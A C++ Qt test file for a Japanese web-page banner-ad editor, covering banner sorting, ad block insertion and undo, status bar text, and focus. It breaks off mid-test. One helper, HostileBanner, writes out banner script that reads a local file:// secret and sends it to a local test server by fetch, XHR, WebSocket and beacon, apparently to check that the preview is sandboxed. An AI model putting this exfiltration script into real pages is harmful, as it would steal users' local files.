// The banner list and the ad commands of the page tabs, driven through the
// real actions on a page opened from a local folder. Message boxes are
// answered through the message seam.

#include "base/files.h"
#include "catalogue/adkind.h"
#include "catalogue/archive.h"
#include "catalogue/bannerstore.h"
#include "gui/banners/bannerlistmodel.h"
#include "gui/banners/fmbanner.h"
#include "gui/common/actionlist.h"
#include "gui/common/bannerdrag.h"
#include "gui/common/datatext.h"
#include "gui/common/messagebox.h"
#include "gui/common/webpane.h"
#include "gui/documents/adtreemodel.h"
#include "gui/documents/documentsarea.h"
#include "gui/documents/documenttab.h"
#include "gui/documents/scintillapageeditor.h"
#include "gui/formserver.h"
#include "gui/mainwindow.h"
#include "gui/statusline.h"
#include "gui/workspace.h"
#include "net/curlftpclient.h"
#include "pageads/adblock.h"
#include "pageads/adcommands.h"
#include "settings/settingsfile.h"
#include "sites/setup.h"

#include <QAbstractItemModelTester>
#include <QAccessible>
#include <QApplication>
#include <QComboBox>
#include <QFontInfo>
#include <QHeaderView>
#include <QItemSelectionModel>
#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QMimeData>
#include <QPushButton>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QSplitter>
#include <QStatusBar>
#include <QStatusTipEvent>
#include <QTabBar>
#include <QTabWidget>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QToolButton>
#include <QTreeView>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <filesystem>

using namespace pw;
using namespace pw::gui;

namespace {

struct BannerRow {
    const char* name;
    const char* type;
    int pv;
    int ct;
    int revenue;
    const char* html;
};

// Names and types mix cases so that a case-sensitive sort would differ.
const BannerRow kBanners[] = {
    { "beta", "Text", 10, 1, 500, "<a href=\"b\">beta</a>" },
    { "Alpha", "image", 200, 3, 30, "<a href=\"a\">alpha</a>" },
    { "gamma", "Flash", 7, 1, 4000, "<a href=\"g\">gamma</a>" },
};

const std::string kPage = "<html>\r\n<body>\r\n<p>one</p>\r\n<p>two</p>\r\n</body>\r\n</html>\r\n";

std::string ReadFile(const std::string& path)
{
    std::string bytes;
    ReadWholeFile(path, bytes);
    return bytes;
}

} // namespace

class BannerFlowTest : public QObject {
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    std::string m_home;
    std::string m_settings;
    std::unique_ptr<TMainForm> m_form;
    QStringList m_messages;
    QList<QMessageBox::StandardButton> m_answers;

    QAction* action(const char* name) { return m_form->actionList()->actionNamed(QLatin1String(name)); }
    QToolButton* button(const char* name) { return m_form->findChild<QToolButton*>(QLatin1String(name)); }
    QTreeView* list() { return m_form->findChild<QTreeView*>(QStringLiteral("LVAdFlights")); }
    QTreeView* files() { return m_form->findChild<QTreeView*>(QStringLiteral("LVFiles")); }
    DocumentTab* activeTab() { return m_form->documents()->activeTab(); }
    BannerList& catalogue() { return m_form->workspace().Banners; }

    // Pagewick.ini with one local setup on m_home/www, plus `general` keys of
    // "Setups"; ads.ini with kBanners in this order.
    void writeSettings(const std::vector<std::pair<const char*, int>>& general = {})
    {
        TIniList store;
        TSetup setup;
        setup.Name = "site";
        setup.IniPath = m_home + "/www";
        setup.LastPath = setup.IniPath;
        setup.LastLoginPath = true;
        setup.Kind = skLocal;
        setup.RootURL = "http://example.org/";
        std::vector<std::unique_ptr<TSetup>> setups;
        setups.push_back(std::make_unique<TSetup>(setup));
        SaveSetups(store, setups, 0);
        for (const auto& [key, value] : general)
            store.WriteInteger("Setups", key, value);
        QVERIFY(SaveSettingsFile(store, m_settings, kMainSettingsFile).ok);

        BannerList banners;
        int number = 1;
        for (const BannerRow& row : kBanners) {
            auto banner = std::make_unique<TAdBanner>();
            banner->Number = number++;
            banner->SpaceName = row.name;
            banner->Type = row.type;
            banner->PV = row.pv;
            banner->CT = row.ct;
            banner->ClickRate = ComputeClickRate(row.pv, row.ct);
            banner->TotalRevenue = row.revenue;
            banner->BannerHTML = row.html;
            banners.Rows.push_back(std::move(banner));
        }
        TIniList ads;
        QVERIFY(SaveBanners(banners, ads, m_settings).ok);
    }

    void startForm()
    {
        const QString settings = QString::fromStdString(m_settings);
        m_form = std::make_unique<TMainForm>(settings, settings, net::CurlFtpClientFactory());
        m_form->startUp();
        m_form->show();
        QVERIFY(QTest::qWaitForWindowExposed(m_form.get()));
    }

    // The banner names in display order.
    QStringList shownNames()
    {
        QStringList names;
        for (int row = 0; row < list()->model()->rowCount(); ++row)
            names << list()->model()->index(row, 0).data().toString();
        return names;
    }

    QString selectedName()
    {
        const QModelIndex current = list()->selectionModel()->currentIndex();
        const TAdBanner* banner = catalogue().SelectedBanner();
        if (!current.isValid() || !banner || !list()->selectionModel()->isRowSelected(current.row()))
            return QStringLiteral("<none>");
        const QString shown = current.siblingAtColumn(0).data().toString();
        return shown == FromData(banner->SpaceName) ? shown : QStringLiteral("<view and catalogue differ>");
    }

    void selectBanner(const char* name)
    {
        const int row = shownNames().indexOf(QLatin1String(name));
        QVERIFY(row >= 0);
        list()->selectionModel()->setCurrentIndex(
            list()->model()->index(row, 0), QItemSelectionModel::ClearAndSelect | QItemSelectionModel::Rows);
    }

    void clickHeader(int column)
    {
        QHeaderView* header = list()->header();
        const QPoint at(
            header->sectionViewportPosition(column) + header->sectionSize(column) / 2, header->height() / 2);
        QTest::mouseClick(header->viewport(), Qt::LeftButton, {}, at);
    }

    std::string previewFile()
    {
        // The main window's pane; the banner editor has a preview of the same name.
        return m_form->findChild<QWidget*>(QStringLiteral("PnPreview"))->findChild<WebPane*>()->untrustedHtml();
    }

    // Connects and opens page.html from the local folder.
    void openPage()
    {
        button("TBConnect")->click();
        QAbstractItemModel* model = files()->model();
        for (int row = 0; row < model->rowCount(); ++row) {
            if (model->index(row, 0).data().toString() == QStringLiteral("page.html"))
                files()->selectionModel()->setCurrentIndex(
                    model->index(row, 0), QItemSelectionModel::ClearAndSelect | QItemSelectionModel::Rows);
        }
        action("FileOpen")->trigger();
        QVERIFY(activeTab());
    }

    // Runs `steps` on the banner editor once `trigger` has opened it.
    void withEditor(const char* trigger, const std::function<void(TFmBanner&)>& steps)
    {
        bool ran = false;
        QTimer::singleShot(0, this, [&] {
            auto* dialog = m_form->findChild<TFmBanner*>(QStringLiteral("FmBanner"));
            QVERIFY(dialog && dialog->isVisible());
            ran = true;
            steps(*dialog);
            if (dialog->isVisible())
                dialog->reject();
        });
        action(trigger)->trigger();
        QVERIFY(ran);
    }

    static QLineEdit* field(TFmBanner& dialog, const char* name)
    {
        return dialog.findChild<QLineEdit*>(QLatin1String(name));
    }
    static QComboBox* combo(TFmBanner& dialog, const char* name)
    {
        return dialog.findChild<QComboBox*>(QLatin1String(name));
    }
    static void clickOk(TFmBanner& dialog) { dialog.findChild<QPushButton*>(QStringLiteral("BtnOK"))->click(); }

    std::unique_ptr<TIniList> adsIniFile()
    {
        auto store = std::make_unique<TIniList>();
        LoadSettingsFile(*store, m_settings, kBannerFile);
        return store;
    }

    // The status of the active page's node `text`.
    TAdNodeStatus nodeStatus(const char* text)
    {
        for (AdNode* node = activeTab()->adTree().First(); node; node = activeTab()->adTree().Next(*node)) {
            if (node->Text() == text)
                return node->Status();
        }
        return TAdNodeStatus(-1);
    }

    // A page holding one block of `name` with `html`.
    void writeBlockPage(const char* name, const std::string& html)
    {
        QVERIFY(WriteFileAtomically(m_home + "/www/page.html",
            "<p>top</p>\r\n" + BuildAdBlock(name, html, abNormal, PageEncoding::ShiftJis) + "\r\n<p>end</p>\r\n")
                    .ok);
    }

    // Runs `script` in the page of `pane` and returns its result.
    static QVariant evaluate(WebPane* pane, const QString& script)
    {
        QVariant result;
        bool done = false;
        qobject_cast<QWebEngineView*>(pane->view())->page()->runJavaScript(script, [&](const QVariant& value) {
            result = value;
            done = true;
        });
        if (!QTest::qWaitFor([&] { return done; }, 10000))
            return QStringLiteral("<no answer>");
        return result;
    }

    // Banner code that shows an image from `server` and then tries to read a
    // local file and the settings file and to send what it can: over a
    // WebSocket, fetch, XHR, a beacon, a frame and by moving the page away.
    static std::string HostileBanner(const pw::test::FormServer& server, const std::string& secretFile)
    {
        const std::string base = server.url(QString()).toStdString();
        const std::string ws = "ws://127.0.0.1:" + std::to_string(server.port()) + "/";
        return "<img id=\"ad\" src=\"" + base
            + "ad.png\">\n<script>\n"
              "var base = '"
            + base + "', ws = '" + ws
            + "';\n"
              "function leak(tag, text) {\n"
              "  try { new WebSocket(ws + 'ws-' + tag + '?' + encodeURIComponent(text)); } catch (e) {}\n"
              "  try { fetch(base + 'fetch-' + tag + '?' + encodeURIComponent(text), { mode: 'no-cors' }); } "
              "catch (e) {}\n"
              "  try { var x = new XMLHttpRequest(); x.open('POST', base + 'xhr-' + tag); x.send(text); } catch "
              "(e) {}\n"
              "  try { navigator.sendBeacon(base + 'beacon-' + tag, text); } catch (e) {}\n"
              "}\n"
              "window.fileRead = false;\n"
              "function read(url) {\n"
              "  try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send();\n"
              "        if (x.responseText) { window.fileRead = true; leak('file', x.responseText); } } catch (e) "
              "{}\n"
              "  try { fetch(url).then(function (r) { return r.text(); })\n"
              "        .then(function (t) { window.fileRead = true; leak('fetched', t); }).catch(function () {}); "
              "} catch (e) {}\n"
              "}\n"
              "leak('hello', 'x');\n"
              "read('file://"
            + secretFile
            + "');\n"
              "var f = document.createElement('iframe'); f.src = 'file://"
            + secretFile
            + "';\n"
              "document.documentElement.appendChild(f);\n"
              "setTimeout(function () { location.href = base + 'navigate'; }, 200);\n"
              "</script>\n";
    }

    // The requests that reached the log server.
    static QStringList LoggedRequests(const QString& logFile)
    {
        QFile file(logFile);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        return QString::fromLatin1(file.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    }

    // Message boxes are recorded in m_messages; questions take their answers
    // from m_answers.
    void answerFromTheList()
    {
        SetMessageHandler([this](MessageType type, const QString& text) {
            m_messages << text;
            if (type != MessageType::Confirmation)
                return QMessageBox::Ok;
            if (m_answers.isEmpty()) {
                qWarning("unexpected question: %s", qPrintable(text));
                return QMessageBox::Cancel;
            }
            return m_answers.takeFirst();
        });
    }

private slots:
    void init()
    {
        m_messages.clear();
        m_answers.clear();
        answerFromTheList();
        m_home = m_dir.filePath(QStringLiteral("home")).toStdString();
        m_settings = m_dir.filePath(QStringLiteral("settings")).toStdString();
        std::filesystem::remove_all(m_home);
        std::filesystem::remove_all(m_settings);
        std::filesystem::create_directories(m_home + "/www");
        std::filesystem::create_directories(m_settings);
        QVERIFY(WriteFileAtomically(m_home + "/www/page.html", kPage).ok);
    }

    void cleanup()
    {
        if (m_form) {
            m_answers.clear();
            m_answers << QMessageBox::No << QMessageBox::No;
            m_form->close();
        }
        m_form.reset();
    }

    // The model keeps the item model contract through sorting, appending,
    // changing and removing rows.
    void modelContract()
    {
        BannerList banners;
        for (const BannerRow& row : kBanners) {
            auto banner = std::make_unique<TAdBanner>();
            banner->SpaceName = row.name;
            banner->PV = row.pv;
            banners.Rows.push_back(std::move(banner));
        }
        BannerListModel model(banners);
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        const QPersistentModelIndex gamma = model.index(2, 4);
        for (int column = 0; column < kBannerColumnCount; ++column) {
            model.clickColumn(column);
            model.clickColumn(column);
            QCOMPARE(model.sortState().Column, column);
            QVERIFY(model.sortState().Descending);
            QCOMPARE(gamma.data().toString(), model.index(gamma.row(), 4).data().toString());
            QCOMPARE(model.index(gamma.row(), 0).data().toString(), QStringLiteral("gamma"));
            QCOMPARE(gamma.column(), 4);
        }
        model.beginAppend();
        banners.Rows.push_back(std::make_unique<TAdBanner>());
        model.endAppend();
        QCOMPARE(model.rowCount(), 4);
        banners.Rows[3]->SpaceName = "delta";
        model.rowChanged(3);
        QCOMPARE(model.index(3, 0).data().toString(), QStringLiteral("delta"));
        model.beginRemove(0);
        banners.Rows.erase(banners.Rows.begin());
        model.endRemove();
        QCOMPARE(model.rowCount(), 3);
        model.reload();
        QCOMPARE(model.index(0, 5).data().toString(), FromData(BannerColumnText(*banners.Rows[0], 5)));
        QCOMPARE(
            model.index(0, 3).data(Qt::TextAlignmentRole).value<Qt::Alignment>() & Qt::AlignRight, Qt::AlignRight);
    }

    // Start-up selects the banner numbered "LastAdIndex" in file order, then
    // applies "SortColumn"; the preview shows the selected banner.
    void startUpSelectsAndSorts_data()
    {
        QTest::addColumn<int>("lastAdIndex");
        QTest::addColumn<int>("sortColumn");
        QTest::addColumn<QStringList>("order");
        QTest::addColumn<QString>("selected");
        const QString beta = QStringLiteral("beta"), alpha = QStringLiteral("Alpha"),
                      gamma = QStringLiteral("gamma");
        QTest::newRow("type ascending") << 2 << -3 << QStringList { gamma, alpha, beta } << alpha;
        QTest::newRow("type descending") << 2 << 3 << QStringList { beta, alpha, gamma } << alpha;
        QTest::newRow("default: name descending, first") << 0 << 1 << QStringList { gamma, beta, alpha } << beta;
        QTest::newRow("unsorted, beyond the last") << 9 << 0 << QStringList { beta, alpha, gamma } << beta;
        QTest::newRow("revenue ascending") << 3 << -7 << QStringList { alpha, beta, gamma } << gamma;
    }

    void startUpSelectsAndSorts()
    {
        QFETCH(int, lastAdIndex);
        QFETCH(int, sortColumn);
        QFETCH(QStringList, order);
        QFETCH(QString, selected);
        writeSettings({ { "LastAdIndex", lastAdIndex }, { "SortColumn", sortColumn } });
        startForm();
        QCOMPARE(shownNames(), order);
        QCOMPARE(selectedName(), selected);
        QCOMPARE(FromData(previewFile()).contains(selected.toLower()), true);
        const int mark = list()->header()->sortIndicatorSection();
        QCOMPARE(mark, sortColumn == 0 ? -1 : std::abs(sortColumn) - 1);

        // Exit writes the selected banner's number and the sort mark back.
        QVERIFY(m_form->close());
        m_form->shutDown();
        std::string main = ReadFile(m_settings + "/Pagewick.ini");
        ScrambleFileImage(main);
        const int number = catalogue().SelectedBanner()->Number;
        QVERIFY2(main.find("LastAdIndex=" + std::to_string(number) + "\r\n") != std::string::npos, main.c_str());
        QVERIFY2(
            main.find("SortColumn=" + std::to_string(sortColumn) + "\r\n") != std::string::npos, main.c_str());
        m_form.reset();
    }

    // Every column sorts ascending on the first click and descending on the
    // second, the mark follows, and the selected banner stays selected with
    // its preview.
    void headerClicksSortEveryColumn()
    {
        writeSettings({ { "LastAdIndex", 3 }, { "SortColumn", 0 } });
        startForm();
        QCOMPARE(selectedName(), QStringLiteral("gamma"));
        const QStringList beta { QStringLiteral("beta") }, alpha { QStringLiteral("Alpha") },
            gamma { QStringLiteral("gamma") };
        const QStringList ascending[kBannerColumnCount] = {
            alpha + beta + gamma, // names, without regard to case
            alpha + beta + gamma, // networks: all その他, any order
            gamma + alpha + beta, // types, without regard to case
            gamma + beta + alpha, // PV
            beta + gamma + alpha, // CT: 1, 1, 3
            alpha + beta + gamma, // rate: 1.5, 10, 14.29
            alpha + beta + gamma, // revenue
        };
        for (int column = 0; column < kBannerColumnCount; ++column) {
            for (const bool descending : { false, true }) {
                clickHeader(column);
                QCOMPARE(list()->header()->sortIndicatorSection(), column);
                QCOMPARE(
                    list()->header()->sortIndicatorOrder(), descending ? Qt::DescendingOrder : Qt::AscendingOrder);
                QStringList expected = ascending[column];
                if (descending)
                    std::reverse(expected.begin(), expected.end());
                if (column != 1 && column != 4)
                    QCOMPARE(shownNames(), expected);
                QCOMPARE(selectedName(), QStringLiteral("gamma"));
                QCOMPARE(previewFile(), std::string(kBanners[2].html));
            }
        }
        // Ties keep no order, but the rows stay grouped by their value.
        clickHeader(4);
        QCOMPARE(shownNames().last(), QStringLiteral("Alpha"));
    }

    // Add, replace and delete at the caret and by node; each command is one
    // undo step that gives back the page's bytes exactly.
    void adCommandsUndoToTheOriginalBytes()
    {
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        ScintillaPageEditor* editor = activeTab()->editor();
        const std::string original = editor->PageBytes();
        QCOMPARE(original, kPage);
        const std::string head = "<html>\r\n<body>\r\n",
                          rest = "<p>one</p>\r\n<p>two</p>\r\n</body>\r\n</html>\r\n";
        auto block = [](const BannerRow& row, TAdBlockKind kind) {
            return BuildAdBlock(row.name, row.html, kind, PageEncoding::ShiftJis);
        };
        auto undo = [editor] { QTest::keyClick(editor, Qt::Key_Z, Qt::ControlModifier); };
        auto selectedNode = [this] {
            const AdNode* node = activeTab()->adTree().Selected();
            return node ? FromData(node->Text()) : QStringLiteral("<none>");
        };

        // A normal block in front of the caret's line, selected in the tree.
        editor->setCursorPosition(2, 0);
        selectBanner("beta");
        QVERIFY(action("AddNormal")->isEnabled());
        action("AddNormal")->trigger();
        const std::string withBeta = head + block(kBanners[0], abNormal) + "\r\n" + rest;
        QCOMPARE(editor->PageBytes(), withBeta);
        QCOMPARE(selectedNode(), QStringLiteral("beta"));
        QVERIFY(action("ReplaceAd")->isEnabled());
        QVERIFY(action("DeleteAd")->isEnabled());

        // Replace at the caret (inside the block).
        editor->setCursorPosition(3, 0);
        selectBanner("gamma");
        action("ReplaceAd")->trigger();
        const std::string withGamma = head + block(kBanners[2], abNormal) + "\r\n" + rest;
        QCOMPARE(editor->PageBytes(), withGamma);
        QCOMPARE(selectedNode(), QStringLiteral("gamma"));
        undo();
        QCOMPARE(editor->PageBytes(), withBeta);

        // Replace by the tree's node when the caret stands outside every block.
        action("RefreshAd")->trigger();
        activeTab()->adTreeView()->setCurrentIndex(activeTab()->adTreeModel()->index(0, 0));
        QCOMPARE(selectedNode(), QStringLiteral("beta"));
        editor->setCursorPosition(0, 0);
        selectBanner("gamma");
        action("ReplaceAd")->trigger();
        QCOMPARE(editor->PageBytes(), withGamma);
        undo();
        QCOMPARE(editor->PageBytes(), withBeta);

        // Delete asks; only Yes deletes.
        action("RefreshAd")->trigger();
        activeTab()->adTreeView()->setCurrentIndex(activeTab()->adTreeModel()->index(0, 0));
        for (const auto answer : { QMessageBox::Cancel, QMessageBox::No }) {
            m_answers << answer;
            action("DeleteAd")->trigger();
            QCOMPARE(editor->PageBytes(), withBeta);
        }
        m_messages.clear();
        m_answers << QMessageBox::Yes;
        action("DeleteAd")->trigger();
        QCOMPARE(m_messages.size(), 2);
        QCOMPARE(m_messages[0], FromData(kConfirmDeleteQuestion));
        QCOMPARE(m_messages[1], FromData(kBlockDeletedMessage));
        QCOMPARE(editor->PageBytes(), head + "\r\n" + rest);
        QCOMPARE(activeTab()->adTree().NodeCount(), size_t(0));
        QVERIFY(!action("DeleteAd")->isEnabled());
        // The tree follows undo and redo at once, and the scan after them
        // leaves the redo history alone.
        const auto nodes = [this] { return activeTab()->adTree().NodeCount(); };
        undo();
        QCOMPARE(editor->PageBytes(), withBeta);
        QTRY_COMPARE(nodes(), size_t(1));
        QCOMPARE(FromData(activeTab()->adTree().First()->Text()), QStringLiteral("beta"));
        QTest::keyClick(editor, Qt::Key_Y, Qt::ControlModifier);
        QCOMPARE(editor->PageBytes(), head + "\r\n" + rest);
        QTRY_COMPARE(nodes(), size_t(0));
        undo();
        QTRY_COMPARE(nodes(), size_t(1));
        editor->setCursorPosition(0, 0);
        selectBanner("beta");
        action("Jump")->trigger();
        QCOMPARE(selectedNode(), QStringLiteral("beta"));
        undo();
        QCOMPARE(editor->PageBytes(), original);
        QTRY_COMPARE(nodes(), size_t(0));

        // A rotation block, then a second member added at the caret inside it.
        editor->setCursorPosition(2, 0);
        selectBanner("beta");
        action("AddRotation")->trigger();
        const std::string withRotation = editor->PageBytes();
        QCOMPARE(withRotation, head + block(kBanners[0], abRotation) + "\r\n" + rest);
        int line = 0, index = 0;
        editor->getCursorPosition(&line, &index);
        editor->setCursorPosition(line + 1, 0);
        selectBanner("Alpha");
        action("AddRotation")->trigger();
        const AdNode* rotation = activeTab()->adTree().First();
        QVERIFY(rotation);
        QCOMPARE(rotation->Children().size(), size_t(2));
        QCOMPARE(selectedNode(), QStringLiteral("Alpha"));
        QVERIFY(editor->PageBytes().find(block(kBanners[1], abMember)) != std::string::npos);
        undo();
        QCOMPARE(editor->PageBytes(), withRotation);
        undo();
        QCOMPARE(editor->PageBytes(), original);

        // Saved, the page holds the block's bytes.
        action("AddNormal")->trigger();
        action("FileSave")->trigger();
        QCOMPARE(ReadFile(m_home + "/www/page.html"), editor->PageBytes());
        QVERIFY(ReadFile(m_home + "/www/page.html").find(block(kBanners[1], abNormal)) != std::string::npos);
    }

    // A result in the status bar stays while hints pass over it, and goes
    // when the page moves on: a command that reports nothing, another tab.
    void statusResultsStayUntilTheirStateGoes()
    {
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        selectBanner("beta");
        activeTab()->editor()->setCursorPosition(2, 0);
        action("AddNormal")->trigger();
        QTreeView* tree = activeTab()->adTreeView();
        tree->setCurrentIndex(QModelIndex());
        tree->setCurrentIndex(activeTab()->adTreeModel()->index(0, 0));
        const QString found = pw::test::ShownStatus(m_form.get());
        QVERIFY(found.contains(QStringLiteral("beta")));

        // The pointer crosses a button: its hint covers the result, then leaves it.
        QStatusTipEvent hint(QStringLiteral("上書き保存"));
        QApplication::sendEvent(m_form.get(), &hint);
        QCOMPARE(pw::test::ShownStatus(m_form.get()), QStringLiteral("上書き保存"));
        QStatusTipEvent gone { QString() };
        QApplication::sendEvent(m_form.get(), &gone);
        QCOMPARE(pw::test::ShownStatus(m_form.get()), found);

        action("RefreshAd")->trigger();
        QCOMPARE(pw::test::ShownStatus(m_form.get()), QString());
        tree->setCurrentIndex(activeTab()->adTreeModel()->index(0, 0));
        QCOMPARE(pw::test::ShownStatus(m_form.get()), found);
        m_form->findChild<QTabWidget*>(QStringLiteral("PCMain"))->setCurrentIndex(0);
        QCOMPARE(pw::test::ShownStatus(m_form.get()), QString());
    }

    // What the status bar says is what a screen reader hears: the labels
    // expose their text, not a fixed name.
    void statusBarLabelsSpeakTheirText()
    {
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        auto spoken = [](QWidget* label) {
            QAccessibleInterface* face = QAccessible::queryAccessibleInterface(label);
            return face ? face->text(QAccessible::Name) : QStringLiteral("<none>");
        };
        auto* status = m_form->statusBar()->findChild<QLabel*>(QStringLiteral("LbStatusText"));
        auto* encoding = m_form->statusBar()->findChild<QLabel*>(QStringLiteral("PageEncodingLabel"));
        QVERIFY(status && encoding);
        QVERIFY(encoding->text().startsWith(QStringLiteral("shift_jis"), Qt::CaseInsensitive));
        QCOMPARE(spoken(encoding), encoding->text());

        selectBanner("beta");
        activeTab()->editor()->setCursorPosition(2, 0);
        action("AddNormal")->trigger();
        action("FileSave")->trigger();
        QVERIFY(!activeTab()->editor()->PageModified());
        QVERIFY(!status->text().isEmpty());
        QCOMPARE(spoken(status), status->text());
        m_form->findChild<QTabWidget*>(QStringLiteral("PCMain"))->setCurrentIndex(0);
        QCOMPARE(spoken(status), QString());
        QCOMPARE(spoken(encoding), QString());
    }

    // The ad commands ask before they write a block inside an HTML tag; only
    // はい writes it, and いいえ is the default answer.
    void adCommandsAskBeforeWritingInsideATag()
    {
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        ScintillaPageEditor* editor = activeTab()->editor();
        selectBanner("beta");
        const QString question = FromData(kInsideTagQuestion);
        // The question is a warning with buttons: it takes its answer from the list.
        SetMessageHandler([this](MessageType type, const QString& text) {
            m_messages << text;
            return type == MessageType::Warning && !m_answers.isEmpty() ? m_answers.takeFirst() : QMessageBox::Ok;
        });

        // Between "<p" and ">" of the third line.
        for (const char* command : { "AddRotation", "AddNormal" }) {
            editor->setCursorPosition(2, 2);
            m_messages.clear();
            m_answers << QMessageBox::No;
            action(command)->trigger();
            QCOMPARE(m_messages, QStringList { question });
            QCOMPARE(editor->PageBytes(), kPage);
        }
        editor->setCursorPosition(2, 2);
        m_messages.clear();
        m_answers << QMessageBox::Yes;
        action("AddNormal")->trigger();
        QCOMPARE(m_messages, QStringList { question });
        const std::string block = BuildAdBlock("beta", kBanners[0].html, abNormal, PageEncoding::ShiftJis);
        QCOMPARE(editor->PageBytes(),
            "<html>\r\n<body>\r\n<p\r\n" + block + "\r\n>one</p>\r\n<p>two</p>\r\n</body>\r\n</html>\r\n");
        QTest::keyClick(editor, Qt::Key_Z, Qt::ControlModifier);
        QCOMPARE(editor->PageBytes(), kPage);

        // Between two tags: no question.
        editor->setCursorPosition(2, 0);
        m_messages.clear();
        action("AddNormal")->trigger();
        QCOMPARE(m_messages, QStringList());
        const std::string withBeta
            = "<html>\r\n<body>\r\n" + block + "\r\n<p>one</p>\r\n<p>two</p>\r\n</body>\r\n</html>\r\n";
        QCOMPARE(editor->PageBytes(), withBeta);

        // A replace writes where the block stands, whatever tag of the block holds the caret.
        editor->setCursorPosition(3, 3); // in the banner's <a href="b">
        selectBanner("gamma");
        action("ReplaceAd")->trigger();
        QCOMPARE(m_messages, QStringList());
        QVERIFY(editor->PageBytes().find("gamma</a>") != std::string::npos);
        QTest::keyClick(editor, Qt::Key_Z, Qt::ControlModifier);
        QCOMPARE(editor->PageBytes(), withBeta);

        // The box itself: はい and いいえ, with いいえ the default, which Enter takes.
        SetMessageHandler({});
        editor->setCursorPosition(5, 2);
        QMessageBox::StandardButtons buttons;
        bool noIsDefault = false;
        QTimer poll;
        connect(&poll, &QTimer::timeout, this, [&] {
            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
            if (!box)
                return;
            poll.stop();
            buttons = box->standardButtons();
            noIsDefault = box->defaultButton() == box->button(QMessageBox::No);
            QTest::keyClick(box, Qt::Key_Return);
        });
        poll.start(20);
        action("AddNormal")->trigger();
        answerFromTheList();
        QCOMPARE(buttons, QMessageBox::Yes | QMessageBox::No);
        QVERIFY(noIsDefault);
        QCOMPARE(editor->PageBytes(), withBeta);
    }

    // Choosing a page tab puts the keyboard in its editor; with the focus in
    // the ad tree the editor still draws its caret.
    void pageTabTakesTheKeyboardAndKeepsItsCaret()
    {
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        QVERIFY(QTest::qWaitForWindowActive(m_form.get()));
        openPage();
        auto* pages = m_form->findChild<QTabWidget*>(QStringLiteral("PCMain"));
        ScintillaPageEditor* editor = activeTab()->editor();
        pages->setCurrentIndex(0);
        pages->setCurrentIndex(1);
        QTRY_COMPARE(QApplication::focusWidget(), static_cast<QWidget*>(editor));

        // A click on the tab already shown does the same after a banner was
        // chosen in the list: Ctrl+Home and typing go to the page.
        QTest::mouseClick(
            list()->viewport(), Qt::LeftButton, {}, list()->visualRect(list()->model()->index(1, 0)).center());
        QTRY_COMPARE(QApplication::focusWidget(), static_cast<QWidget*>(list()));
        QTabBar* bar = pages->tabBar();
        QTest::mouseClick(bar, Qt::LeftButton, {}, bar->tabRect(1).center());
        QCOMPARE(pages->currentIndex(), 1);
        QTRY_COMPARE(QApplication::focusWidget(), static_cast<QWidget*>(editor));
        editor->setCursorPosition(3, 2);
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Home, Qt::ControlModifier);
        QTest::keyClicks(QApplication::focusWidget(), QStringLiteral("xy"));
        QCOMPARE(editor->PageBytes(), "xy" + kPage);
        QTest::keyClick(editor, Qt::Key_Z, Qt::ControlModifier);
        QCOMPARE(editor->PageBytes(), kPage);
        activeTab()->adTreeView()->setFocus();
        QTRY_VERIFY(activeTab()->adTreeView()->hasFocus());
        QCOMPARE(editor->SendScintilla(QsciScintillaBase::SCI_GETFOCUS), 1L);

        // The ad tree is as wide as the user drags it, in this tab and the next ones.
        QCOMPARE(activeTab()->adTreeWidth(), 200);
        auto* splitter = activeTab()->adTreeView()->parentWidget();
        auto* handle = qobject_cast<QSplitter*>(splitter)->handle(1);
        const QPoint grip = handle->rect().center();
        QTest::mousePress(handle, Qt::LeftButton, Qt::NoModifier, grip);
        QTest::mouseMove(handle, grip + QPoint(60, 0));
        QTest::mouseRelease(handle, Qt::LeftButton, Qt::NoModifier, grip + QPoint(60, 0));
        QTRY_VERIFY(activeTab()->adTreeWidth() > 240);
        QCOMPARE(m_form->documents()->adTreeWidth(), activeTab()->adTreeWidth());
    }

    // F3 walks through the banner's three blocks and starts over.
    void jumpThroughThreeBlocks()
    {
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        ScintillaPageEditor* editor = activeTab()->editor();
        selectBanner("beta");
        for (int line : { 5, 3, 2 }) { // from the bottom up, so the lines above stay put
            editor->setCursorPosition(line, 0);
            action("AddNormal")->trigger();
        }
        QCOMPARE(activeTab()->adTree().NodeCount(), size_t(3));
        selectBanner("gamma");
        selectBanner("beta"); // another banner: the jump starts over
        editor->setCursorPosition(0, 0);
        QList<int> lines;
        QStringList nodes;
        for (int step = 0; step < 4; ++step) {
            QTest::keyClick(editor, Qt::Key_F3);
            int lineFrom = 0, indexFrom = 0, lineTo = 0, indexTo = 0;
            editor->getSelection(&lineFrom, &indexFrom, &lineTo, &indexTo);
            QVERIFY(editor->selectedText().startsWith(QStringLiteral("<!--PWH[beta")));
            lines << lineFrom;
            nodes << FromData(activeTab()->adTree().Selected()->Text());
        }
        QCOMPARE(nodes,
            (QStringList { QStringLiteral("beta"), QStringLiteral("beta[2]"), QStringLiteral("beta[3]"),
                QStringLiteral("beta") }));
        QVERIFY(lines[0] < lines[1] && lines[1] < lines[2]);
        QCOMPARE(lines[3], lines[0]);
        QVERIFY(m_messages.isEmpty());
    }

    // A new banner: the proposed values, every check in turn, the detected
    // kind and network, the live preview; OK appends, saves, selects it and
    // re-rates the page's block of that name.
    void newBannerWithEveryCheck()
    {
        const std::string html = "<a href=\"x\"><img src=\"i.gif\" width=\"468\" height=\"60\"></a>";
        writeBlockPage("delta", html);
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        QCOMPARE(nodeStatus("delta"), nsUnlisted);
        withEditor("NewBanner", [&](TFmBanner& dialog) {
